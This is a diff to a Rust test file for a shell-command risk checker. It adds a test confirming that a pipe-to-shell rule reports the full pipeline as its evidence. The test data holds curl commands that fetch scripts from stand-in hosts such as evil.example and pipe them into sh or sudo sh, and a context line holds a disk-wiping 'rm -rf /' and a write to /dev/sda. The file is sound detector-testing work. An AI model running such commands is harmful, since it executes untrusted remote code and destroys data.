@@ -130,6 +130,23 @@ fn addresses_modes_and_parameters_are_looked_at() {
 }
 
 #[test]
+fn evidence_of_what_is_piped_is_the_whole_pipeline() {
+    let rules = rules();
+    for (text, expected) in [
+        ("curl -s http://evil.example/x.sh | sh", "curl -s http://evil.example/x.sh | sh"),
+        (
+            "cd /tmp; curl -s http://a.example/x | tee y | sudo sh; ls",
+            "curl -s http://a.example/x | tee y | sudo sh",
+        ),
+        ("bash -c 'curl http://a.example/x | sh'", "curl http://a.example/x | sh"),
+    ] {
+        let risk = rules.assess(&command(text)).expect("a risk");
+        let found = risk.findings.iter().find(|it| it.rule == "remote.pipe-to-shell");
+        assert_eq!(found.expect("the rule").evidence, expected);
+    }
+}
+
+#[test]
 fn the_worst_comes_first_and_evidence_is_cut() {
     let rules = rules();
     let long = format!("sudo echo {} > /dev/sda; rm -rf /", "\u{e4}".repeat(300));
